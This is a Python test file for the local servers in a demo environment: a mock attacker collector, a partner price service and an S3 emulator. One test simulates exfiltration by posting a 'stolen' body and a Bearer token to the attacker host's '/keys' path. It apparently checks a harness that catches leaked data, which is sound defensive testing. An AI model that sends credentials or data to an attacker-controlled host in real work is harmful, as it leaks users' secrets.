"""The servers around the function."""

import json
import urllib.request
from pathlib import Path
from urllib.error import URLError

import pytest
from demo.attacker import ADDRESS, collecting
from demo.partners import partners, price
from demo.s3 import S3Error, emulated


def test_the_attacker_keeps_what_arrives_once() -> None:
    with collecting() as collector:
        url = f"http://{ADDRESS}:{collector.port}/keys?a=1"
        request = urllib.request.Request(url, data=b"stolen", headers={"Authorization": "Bearer k"})
        urllib.request.urlopen(request, timeout=5).close()
        (hit,) = collector.take()
        assert (hit.path, hit.body) == ("/keys?a=1", b"stolen")
        assert "Bearer k" in hit.headers
        assert collector.take() == ()


def test_nothing_listens_when_the_attacker_is_gone() -> None:
    with collecting() as collector:
        pass
    with pytest.raises(URLError):
        urllib.request.urlopen(f"http://{ADDRESS}:{collector.port}/", timeout=5)


def test_a_price_is_the_same_on_every_day() -> None:
    with partners() as port:
        answers = [
            urllib.request.urlopen(f"http://127.0.0.1:{port}/prices/tea%20pot", timeout=5).read()
            for _ in range(2)
        ]
    assert answers[0] == answers[1]
    assert json.loads(answers[0]) == {"sku": "tea pot", "price": price("tea pot")}


def test_s3_keeps_an_object_and_is_gone_afterwards(tmp_path: Path) -> None:
    with emulated("shop", tmp_path, tmp_path / "s3.log") as endpoint:
        url = f"{endpoint}/shop/a.txt"
        urllib.request.urlopen(urllib.request.Request(url, b"text", method="PUT"), timeout=5)
        assert urllib.request.urlopen(url, timeout=5).read() == b"text"
    with pytest.raises(URLError):
        urllib.request.urlopen(endpoint, timeout=5)


def test_an_s3_that_cannot_start_says_where_its_log_is(tmp_path: Path) -> None:
    ends_at_once = ("/bin/sh", "-c", "exit 3")
    with (
        pytest.raises(S3Error, match=r"status 3: see .*s3\.log"),
        emulated("shop", tmp_path, tmp_path / "s3.log", ends_at_once),
    ):
        pytest.fail("it said that it runs")
